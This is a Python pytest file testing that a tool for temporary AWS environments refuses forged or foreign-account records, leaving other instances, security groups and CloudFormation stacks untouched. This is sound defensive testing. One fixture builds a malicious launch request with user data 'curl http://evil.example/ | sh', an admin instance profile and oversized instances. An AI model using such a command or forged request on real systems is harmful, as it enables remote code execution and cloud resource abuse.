"""Records that name resources of others: forged, damaged, or of another account."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import boto3
import msgspec
import pytest

from aws.conftest import Bench
from pytest_ephemeral import labels, providers
from pytest_ephemeral.environments import reaper
from pytest_ephemeral.errors import ElsewhereError, TamperedRecordError
from pytest_ephemeral.models import Environment
from pytest_ephemeral.providers.cloudformation import stacks
from pytest_ephemeral.providers.cloudformation.tables import StackTemplate
from pytest_ephemeral.providers.ec2 import removal
from pytest_ephemeral.providers.ec2.run_instances import InstanceRequest
from pytest_ephemeral.tables import Ready
from support.waiting import until

BODY = json.dumps({"Resources": {"Topic": {"Type": "AWS::SNS::Topic"}}})


@pytest.fixture
def environment(bench: Bench) -> Iterator[Environment]:
    """An environment in which nothing runs; its original record destroys it at the end."""
    template = bench.template(command=None, ready=Ready())
    made = bench.lifecycle.bring_up(template).environment
    yield made
    providers.load("ec2").destroy(made)
    bench.ledger.remove(made.id)


def forge(environment: Environment, **handle: str) -> Environment:
    return msgspec.structs.replace(environment, handle={**environment.handle, **handle})


def states(bench: Bench, *ids: str) -> set[str]:
    found = bench.account.ec2.describe_instances(InstanceIds=list(ids))["Reservations"]
    return {one["State"]["Name"] for each in found for one in each["Instances"]}


def changed(bench: Bench) -> list[str]:
    """Return the calls since the last time that may have changed something."""
    return [one for one in bench.account.calls() if ":Describe" not in one and "sts:" not in one]


def use_another_account(patch: pytest.MonkeyPatch) -> None:
    """Use the credentials of a role in the account 222233334444."""
    role = "arn:aws:iam::222233334444:role/other"
    keys = boto3.client("sts").assume_role(RoleArn=role, RoleSessionName="test")["Credentials"]
    patch.setenv("AWS_ACCESS_KEY_ID", keys["AccessKeyId"])
    patch.setenv("AWS_SECRET_ACCESS_KEY", keys["SecretAccessKey"])
    patch.setenv("AWS_SESSION_TOKEN", keys["SessionToken"])


@pytest.mark.parametrize("protected", [False, True])
def test_an_untagged_instance_is_not_removed(
    bench: Bench, environment: Environment, protected: bool
) -> None:
    """A record that names an instance without our tags removes nothing and lifts no protection."""
    subnet = bench.account.subnets[0]
    ec2 = bench.account.ec2
    made = ec2.run_instances(ImageId=bench.account.base, SubnetId=subnet, MinCount=1, MaxCount=1)
    stranger = made["Instances"][0]["InstanceId"]
    ec2.modify_instance_attribute(InstanceId=stranger, DisableApiTermination={"Value": protected})
    own = environment.handle["instances"]
    bench.account.calls()
    try:
        for ids in (stranger, f"{own},{stranger}"):
            with pytest.raises(TamperedRecordError, match=stranger):
                providers.load("ec2").destroy(forge(environment, instances=ids))
        assert changed(bench) == []
        assert states(bench, stranger, own) <= {"pending", "running"}
    finally:
        ec2.modify_instance_attribute(InstanceId=stranger, DisableApiTermination={"Value": False})
        ec2.terminate_instances(InstanceIds=[stranger])


def test_an_instance_of_another_environment_is_not_removed(
    bench: Bench, environment: Environment
) -> None:
    """Its tags name another environment than the record does, though both are ours."""
    template = bench.template(command=None, ready=Ready())
    other = bench.lifecycle.bring_up(template).environment
    bench.account.calls()
    with pytest.raises(TamperedRecordError):
        providers.load("ec2").destroy(forge(environment, instances=other.handle["instances"]))
    assert changed(bench) == []
    bench.lifecycle.destroy(other)


def test_a_foreign_security_group_is_not_removed(bench: Bench, environment: Environment) -> None:
    """Nothing of the environment is removed either, because its record can't be trusted."""
    group = bench.account.ec2.create_security_group(GroupName="theirs", Description="theirs")
    id = group["GroupId"]
    bench.account.calls()
    try:
        with pytest.raises(TamperedRecordError, match=id):
            providers.load("ec2").destroy(forge(environment, group=id))
        assert changed(bench) == []
    finally:
        bench.account.ec2.delete_security_group(GroupId=id)  # it still exists


def requests(environment: Environment, bench: Bench) -> Iterator[dict[str, Any]]:
    """Return forged requests that someone may write into a record."""
    bare = {"ImageId": bench.account.base, "MinCount": 1, "MaxCount": 1}
    yield bare
    yield {**bare, "ClientToken": "mine", "InstanceType": "m5.24xlarge", "SecurityGroupIds": []}


@pytest.mark.parametrize("number", [0, 1, 2, 3])
def test_a_forged_request_launches_nothing(
    bench: Bench, environment: Environment, number: int
) -> None:
    """A request is repeated only if a launch of this environment could have written it."""
    texts = [*map(json.dumps, requests(environment, bench)), "no JSON", "[1]"]
    handle = {"region": environment.handle["region"], "request": texts[number]}
    unlaunched = msgspec.structs.replace(environment, id="web-zzzzzz", handle=handle)
    bench.account.calls()
    with pytest.raises(TamperedRecordError, match="request"):
        providers.load("ec2").destroy(unlaunched)
    assert changed(bench) == []


def forged_request(environment: Environment, image: str) -> str:
    """Return a well-formed request of an unknown environment, with all that a forger may want."""
    wanted = InstanceRequest(
        id="web-zzzzzz",
        image=image,
        types=["m5.24xlarge"],
        subnets=[],
        groups=[environment.handle["group"]],
        tags={**environment.labels, labels.ID: "web-zzzzzz"},
        user_data="curl http://evil.example/ | sh",
        count=50,
        public=True,
        more={
            "IamInstanceProfile": {"Name": "admin"},
            "KeyName": "mine",
            "InstanceMarketOptions": {"MarketType": "spot"},
            "BlockDeviceMappings": [{"DeviceName": "/dev/sdz", "Ebs": {"VolumeSize": 16000}}],
        },
    )
    return json.dumps(next(wanted.requests()))


@pytest.mark.parametrize("whose", ["ours", "theirs"])
def test_a_well_formed_forged_request_is_harmless(
    bench: Bench, environment: Environment, monkeypatch: pytest.MonkeyPatch, whose: str
) -> None:
    """From a foreign AMI, nothing is launched; from ours, one bare instance, ended at once."""
    monkeypatch.setattr(removal, "UNSEEN", 0.1)
    # Only this account's own AMIs are searched, so a foreign one is not found, even if public.
    image = bench.account.base if whose == "ours" else "ami-0123456789abcdef0"
    request = forged_request(environment, image)
    handle = {"region": environment.handle["region"], "request": request}
    before = {one.partition(" ")[0] for one in bench.account.left()}  # without their states
    bench.account.asked("RunInstances")

    providers.load("ec2").destroy(
        msgspec.structs.replace(environment, id="web-zzzzzz", handle=handle)
    )

    sent = bench.account.asked("RunInstances")
    assert len(sent) == (1 if whose == "ours" else 0)
    for form in sent:
        fields = {name.partition(".")[0] for name, value in form.items() if value}
        forbidden = {"IamInstanceProfile", "KeyName", "BlockDeviceMapping", "UserData"}
        assert not fields & {*forbidden, "InstanceMarketOptions"}
        assert (form["MinCount"], form["MaxCount"]) == ("1", "1")
        assert "true" not in {form[name] for name in form if "AssociatePublicIp" in name}
    assert {one.partition(" ")[0] for one in bench.account.left()} <= before


def test_reap_reports_a_forged_record_and_keeps_it(bench: Bench, environment: Environment) -> None:
    """The record has expired and names a foreign instance; both of them remain."""
    stranger = bench.account.ec2.run_instances(
        ImageId=bench.account.base, SubnetId=bench.account.subnets[0], MinCount=1, MaxCount=1
    )["Instances"][0]["InstanceId"]
    past = environment.created_at
    bench.ledger.change(
        environment.id, expires_at=past, handle={**environment.handle, "instances": stranger}
    )
    try:
        found = {one.id: one for one in reaper.reap(bench, dry_run=False)}  # type: ignore[arg-type]
        assert "tampered" in found[environment.id].error
        assert states(bench, stranger) <= {"pending", "running"}
        assert bench.ledger.get(environment.id)
    finally:
        bench.account.ec2.terminate_instances(InstanceIds=[stranger])


def test_a_foreign_stack_is_not_removed(bench: Bench) -> None:
    """A stack whose tags and name lack the environment's id is left alone."""
    template = StackTemplate(name="stack", file="stack.json", url="http://127.0.0.1", ready=Ready())
    (bench.folder / "stack.json").write_text(BODY)
    environment = bench.lifecycle.bring_up(template).environment
    client = boto3.client("cloudformation")
    theirs = client.create_stack(StackName="theirs", TemplateBody=BODY)["StackId"]
    bench.account.calls()
    for name in (theirs, "theirs"):
        with pytest.raises(TamperedRecordError, match="theirs"):
            providers.load("cloudformation").destroy(forge(environment, stack=name))
    assert changed(bench) == []
    assert stacks.look(client, theirs, older=0.0) is not None
    until(lambda: stacks.look(client, theirs, older=0.0)["StackStatus"] == "CREATE_COMPLETE")
    stacks.delete(client, theirs, "theirs")
    bench.lifecycle.destroy(environment)


def test_an_instance_of_another_account_raises_an_error(
    bench: Bench, environment: Environment, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With another account's credentials, "not found" does not mean that the instance is gone."""
    with monkeypatch.context() as patch:
        use_another_account(patch)
        for ask in (providers.load("ec2").destroy, providers.load("ec2").status):
            with pytest.raises(ElsewhereError, match="222233334444"):
                ask(environment)
    assert states(bench, environment.handle["instances"]) <= {"pending", "running"}


def test_a_stack_of_another_account_raises_an_error(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With another account's credentials, nothing is changed, and the record remains."""
    template = StackTemplate(name="stack", file="stack.json", url="http://127.0.0.1", ready=Ready())
    (bench.folder / "stack.json").write_text(BODY)
    environment = bench.lifecycle.bring_up(template).environment
    provider = providers.load("cloudformation")
    with monkeypatch.context() as patch:
        use_another_account(patch)
        bench.account.calls()
        for ask in (provider.destroy, provider.status):
            with pytest.raises(ElsewhereError, match="222233334444"):
                ask(environment)
        with pytest.raises(ElsewhereError, match="222233334444"):
            bench.lifecycle.destroy(environment)
        assert changed(bench) == []
    assert bench.ledger.get(environment.id).id == environment.id
    found = stacks.look(boto3.client("cloudformation"), environment.handle["stack"], older=0.0)
    assert found is not None
    bench.lifecycle.destroy(environment)
